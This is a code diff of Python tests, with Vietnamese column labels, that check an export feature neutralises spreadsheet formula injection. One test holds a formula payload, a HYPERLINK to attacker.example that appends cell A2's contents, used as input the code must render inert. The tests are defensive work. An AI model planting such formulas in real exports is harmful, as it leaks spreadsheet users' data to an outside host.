@@ -83,7 +83,7 @@ def test_the_error_report_downloaded_after_an_upload_has_no_formula(client, unio
 
 
 def test_a_unit_named_like_a_formula_is_text_in_the_template_lists(unions):
-    found(unions.transport, "=HYPERLINK(\"http://x\",\"y\")", Level.BRANCH)
+    found(unions.transport, '=HYPERLINK("http://x","y")', Level.BRANCH)
     content = template_workbook(organisation=unions.transport)
     assert_written_as_text(content, ['=HYPERLINK("http://x","y")'])
 
@@ -107,7 +107,7 @@ def test_text_that_only_looks_like_a_formula_to_csv_gets_the_owasp_prefix():
 
     text = csv_bytes([["Tên", "Ghi chú"], [HYPERLINK, "-2+3"], ["An", 5]]).decode("utf-8-sig")
     lines = text.splitlines()
-    assert lines[1] == "\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A2,\"\"Bấm vào đây\"\")\",'-2+3"
+    assert lines[1] == '"\'=HYPERLINK(""http://attacker.example/?leak=""&A2,""Bấm vào đây"")",\'-2+3'
     assert lines[2] == "An,5"
 
 
